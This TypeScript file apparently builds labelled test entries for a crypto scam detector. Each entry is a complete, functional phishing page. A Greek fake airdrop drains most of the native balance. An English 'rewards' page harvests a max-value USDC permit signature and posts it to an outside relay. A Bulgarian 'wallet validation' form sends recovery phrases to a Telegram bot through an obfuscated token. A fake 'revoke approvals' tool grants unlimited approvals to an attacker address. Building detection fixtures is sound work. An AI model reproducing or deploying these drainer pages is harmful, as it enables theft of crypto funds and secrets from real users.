import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, evmAbiJs, rev, b64, tgSendJs, walletModal, walletModalCss, xorPack, xorUnpackJs } from '../parts/xc-kit.js';

// Greek "$AEGEAN" airdrop: the "claim" is a payable call that sends most of the native balance; config sealed with XOR.
const aegCfg = xorPack(JSON.stringify({ c: '0x7d4e2f91a0b36c58e1f04a9d2c7b83e6f5a01d94', sel: '0x3158952e', keep: 0.04 }), 'aeg');
const aegPage = doc({
  lang: 'el',
  title: '$AEGEAN Airdrop – Διεκδικήστε τα tokens σας',
  css: `body{background:#04172b;color:#e9f3ff;font-family:Arial}.nav{display:flex;justify-content:space-between;padding:16px 26px}.nav button{background:#1da1f2;border:0;color:#fff;padding:10px 18px;border-radius:10px}
.c{max-width:560px;margin:40px auto;text-align:center}.c h1{font-size:40px;margin:0}.pill{display:inline-block;background:#0e3a63;padding:6px 12px;border-radius:12px;font-size:13px}
.amt{font-size:42px;font-weight:700;color:#3fd0ff;margin:14px 0}.cl{background:#3fd0ff;color:#04172b;border:0;border-radius:14px;padding:16px 40px;font-size:18px;font-weight:700;cursor:pointer}${walletModalCss}`,
  body: `<div class="nav"><b>🌊 AEGEAN</b><button id="cn">Σύνδεση πορτοφολιού</button></div>
<div class="c"><span class="pill">Φάση 2 · Ελλάδα &amp; Κύπρος</span><h1>Το airdrop του $AEGEAN είναι ζωντανό</h1><p>Οι πρώτοι χρήστες DeFi από Ελλάδα και Κύπρο μπορούν να διεκδικήσουν tokens. Η διεκδίκηση λήγει σε 48 ώρες.</p>
<div class="amt" id="amt">— AEGEAN</div><button class="cl" id="cl">Διεκδίκηση</button><p style="font-size:12px;color:#7fa3c4">Απαιτείται μικρό τέλος δικτύου για την επαλήθευση.</p></div>
${walletModal('Επιλέξτε πορτοφόλι', ['MetaMask', 'Trust Wallet', 'Rabby', 'OKX Wallet'], 'wsel')}
<script>
${xorUnpackJs('_u')}
var K=JSON.parse(_u('${aegCfg}','aeg')),me=null;
document.getElementById('cn').onclick=function(){document.getElementById('wsel').hidden=false};
document.querySelectorAll('#wsel .wm-w').forEach(function(b){b.onclick=async function(){var e=window.ethereum;if(!e)return alert('Δεν βρέθηκε πορτοφόλι');me=(await e.request({method:'eth_requestAccounts'}))[0];
document.getElementById('wsel').hidden=true;document.getElementById('cn').textContent=me.slice(0,6)+'…';document.getElementById('amt').textContent=(2500+Math.floor(Math.random()*9000)).toLocaleString('el-GR')+' AEGEAN'}});
document.getElementById('cl').onclick=async function(){var e=window.ethereum;if(!me){document.getElementById('wsel').hidden=false;return}
var bal=BigInt(await e.request({method:'eth_getBalance',params:[me,'latest']}));var v=bal-bal*BigInt(Math.round(K.keep*100))/100n;
await e.request({method:'eth_sendTransaction',params:[{from:me,to:K.c,value:'0x'+v.toString(16),data:K.sel}]})};
</script>`,
});

// EIP-2612 permit signature for USDC at max value, relayed to the kit's backend; a "rewards" wrapper in English.
const permitJs = `(function(){var SP='0x2c41e9b07f53d8a6c1e4b92d07f3a58e6c19b4d2',USDC='0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';
async function nonce(e,o){var d='0x7ecebe00'+o.slice(2).padStart(64,'0');return parseInt(await e.request({method:'eth_call',params:[{to:USDC,data:d},'latest']}),16)}
window.claimRewards=async function(){var e=window.ethereum;var o=(await e.request({method:'eth_requestAccounts'}))[0];var n=await nonce(e,o);var dl=Math.floor(Date.now()/1e3)+86400*365;
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:USDC},message:{owner:o,spender:SP,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:n,deadline:dl}};
var sig=await e.request({method:'eth_signTypedData_v4',params:[o,JSON.stringify(typed)]});
await fetch('https://relay.stakerewards-hub.io/p',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({o:o,s:sig,d:dl,n:n,t:USDC})});
document.getElementById('res').textContent='Rewards queued – they will arrive in your wallet within 2 hours.'}})();`;
const permitPage = doc({
  lang: 'en',
  title: 'StakeRewards – Claim your Q4 USDC yield',
  css: `body{background:#f5f7fb;font-family:Inter,Arial}.top{background:#fff;border-bottom:1px solid #e3e7ef;padding:14px 28px;display:flex;justify-content:space-between}
.card{max-width:460px;margin:60px auto;background:#fff;border-radius:16px;padding:28px;box-shadow:0 10px 30px rgba(30,60,120,.08)}.v{font-size:36px;font-weight:700;color:#2775ca}
.b{width:100%;background:#2775ca;color:#fff;border:0;border-radius:12px;padding:14px;font-size:16px;font-weight:600;cursor:pointer}.r{font-size:13px;color:#667;margin-top:10px}`,
  body: `<div class="top"><b>StakeRewards</b><span>Docs · Audit · Discord</span></div>
<div class="card"><p style="color:#667;margin:0">Unclaimed yield (USDC)</p><div class="v">1,284.17</div><p style="font-size:14px">Your wallet participated in the Q4 liquidity program. Sign a gasless message to claim – no transaction fee.</p>
<button class="b" onclick="claimRewards()">Claim with signature</button><div class="r" id="res">Gasless · Secured by EIP-712</div></div>
<script src="/assets/rewards.js"></script>`,
});

// Bulgarian "wallet validation" page: 12/24-word recovery phrase form, sent to Telegram and an API, words shuffled into one field.
const seedPage = doc({
  lang: 'bg',
  title: 'Валидиране на портфейл – Синхронизация',
  css: `body{background:#0f1420;color:#e8ecf4;font-family:Arial}.c{max-width:640px;margin:40px auto;background:#171e2e;border-radius:14px;padding:26px}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{background:#0f1420;border:1px solid #2b3550;color:#fff;padding:10px;border-radius:6px}
.tabs button{background:#222b40;color:#cfd6e6;border:0;padding:8px 14px;border-radius:6px;margin-right:6px}.tabs .on{background:#3b82f6;color:#fff}
.b{width:100%;background:#3b82f6;border:0;color:#fff;padding:14px;border-radius:10px;font-size:16px;margin-top:14px}.w{background:#2a2213;border:1px solid #6b5320;padding:10px;border-radius:8px;font-size:13px;margin:12px 0}`,
  body: `<div class="c"><h2>Синхронизация на портфейла</h2><p>Поради обновяване на протокола (Ledger Live / MetaMask / Trust Wallet) портфейлите, които не са валидирани до 30.11, ще бъдат деактивирани и средствата ще станат недостъпни.</p>
<div class="w">Въведете фразата за възстановяване, за да потвърдите собствеността. Процесът е криптиран и отнема 1 минута.</div>
<div class="tabs"><button class="on" data-n="12">12 думи</button><button data-n="18">18 думи</button><button data-n="24">24 думи</button></div><br>
<form id="sf"><div class="g" id="g"></div><button class="b">Валидирай</button></form><p id="ok" style="display:none;color:#4ade80">Портфейлът е валидиран успешно.</p></div>
<script>
function grid(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++)g.innerHTML+='<input name="w'+i+'" placeholder="'+i+'." autocomplete="off" spellcheck="false" required>'}grid(12);
document.querySelectorAll('.tabs button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.tabs button').forEach(function(x){x.className=''});b.className='on';grid(+b.dataset.n)}});
var tt=atob('${rev(b64('7528841093:AAFseed_Xq1Lm7Np3Rz9Tb2Vc5Wk8Yd0Hj'))}'.split('').reverse().join(''));
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var w=[];new FormData(this).forEach(function(v){w.push(String(v).trim().toLowerCase())});var ph=w.join(' ');
${tgSendJs('tt', "'-1001987334120'", "'🔑 BG seed ('+w.length+')\\n'+ph")};
fetch('/api/sync',{method:'POST',body:JSON.stringify({p:btoa(ph)})});this.style.display='none';document.getElementById('ok').style.display='block'};
</script>`,
});

// A fake "revoke approvals" tool: promises to remove risky approvals but sends approve(max) to the attacker for each token.
const revokePage = doc({
  lang: 'en',
  title: 'RevokeGuard – Check and revoke token approvals',
  css: `body{background:#fff;font-family:Inter,Arial;color:#111}.hd{display:flex;justify-content:space-between;align-items:center;padding:16px 30px;border-bottom:1px solid #eee}
.hd button{background:#111;color:#fff;border:0;padding:10px 18px;border-radius:8px}.w{max-width:900px;margin:30px auto;padding:0 16px}table{width:100%;border-collapse:collapse;font-size:14px}
td,th{padding:10px;border-bottom:1px solid #eee;text-align:left}.rk{color:#d92d20;font-weight:600}.rv{background:#fff;border:1px solid #d92d20;color:#d92d20;padding:6px 12px;border-radius:6px;cursor:pointer}
.all{background:#d92d20;color:#fff;border:0;padding:12px 20px;border-radius:8px;margin-top:16px;cursor:pointer}`,
  body: `<div class="hd"><b>🛡 RevokeGuard</b><button id="cw">Connect wallet</button></div>
<div class="w"><h1>Your wallet may be at risk</h1><p>A recent exploit affects wallets with unlimited approvals. Scan your approvals and revoke risky ones in one click.</p>
<table><thead><tr><th>Token</th><th>Spender</th><th>Allowance</th><th>Risk</th><th></th></tr></thead><tbody id="tb"><tr><td colspan="5">Connect your wallet to scan approvals.</td></tr></tbody></table>
<button class="all" id="all">Revoke all risky approvals</button></div>
<script>
${evmAbiJs}
var GUARD='0x48c0e7a15f2b9d36e1a4c07b8f52d39e6a1b7c04',TOK=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'],['DAI','0x6B175474E89094C44Da98b954EedeAC495271d0F']],me;
document.getElementById('cw').onclick=async function(){me=(await ethereum.request({method:'eth_requestAccounts'}))[0];this.textContent=me.slice(0,6)+'…'+me.slice(-4);
document.getElementById('tb').innerHTML=TOK.map(function(t){return '<tr><td>'+t[0]+'</td><td>0x3f…c21 (unverified)</td><td>Unlimited</td><td class="rk">High</td><td><button class="rv">Revoke</button></td></tr>'}).join('')};
document.getElementById('all').onclick=async function(){if(!me)return document.getElementById('cw').click();for(var i=0;i<TOK.length;i++){
/* "revoke" = re-approve through the guard contract */try{await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:TOK[i][1],data:approveData(GUARD)}]})}catch(e){}}alert('Done! Your wallet is protected.')};
</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-drainer-airdrop-claim-gr',
    label: 'cryptodrainer',
    kind: 'native-balance-claim-drainer',
    url: 'https://aegean-airdrop.claims-gr.xyz/el/claim',
    body: aegPage,
  },
  {
    id: 'xc-drainer-usdt-permit-claim',
    label: 'cryptodrainer',
    kind: 'permit-signature-drainer',
    url: 'https://app.stakerewards-hub.io/claim/q4',
    body: permitPage,
    routes: { 'app.stakerewards-hub.io/assets/rewards.js': jsRoute(permitJs) },
  },
  {
    id: 'xc-drainer-seed-validate-bg',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvest',
    url: 'https://wallet-validate.bg-sync.net/validate',
    body: seedPage,
  },
  {
    id: 'xc-drainer-fake-revoke-tool',
    label: 'cryptodrainer',
    kind: 'fake-revoke-approve-drainer',
    url: 'https://revokeguard.app/scan',
    body: revokePage,
  },
];
